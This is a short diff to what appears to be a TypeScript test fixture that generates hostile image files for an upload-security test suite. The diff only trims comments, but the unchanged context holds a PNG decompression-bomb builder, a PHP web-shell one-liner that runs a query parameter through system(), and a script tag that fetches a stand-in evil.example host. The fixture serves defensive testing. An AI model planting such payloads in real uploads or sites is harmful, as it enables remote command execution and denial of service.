@@ -28,7 +28,6 @@ const bomb = (width: number, height: number, bytes: number): Buffer => {
   return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
 };
 
-/** Adds a text chunk before the end of a PNG. */
 const withText = (png: Buffer, text: string): Buffer =>
   Buffer.concat([png.subarray(0, -12), chunk('tEXt', Buffer.from(`Comment\0${text}`, 'latin1')), png.subarray(-12)]);
 
@@ -37,10 +36,7 @@ export const MARK = 'jejak-rahasia-4711';
 const PHP = `<?php system($_GET["c"]); /* ${MARK} */ ?>`;
 const SCRIPT = `<script>fetch("https://evil.example/${MARK}")</script>`;
 
-/**
- * About sixty files that must not be stored as they are, each with its name. They are generated, so that none lies in the
- * repository.
- */
+/** About sixty files that must not be stored as they are; generated, so that none lies in the repository. */
 export const hostilePhotos = async (): Promise<[name: string, file: Buffer][]> => {
   const jpeg = await photo().jpeg().toBuffer();
   const png = await photo().png().toBuffer();
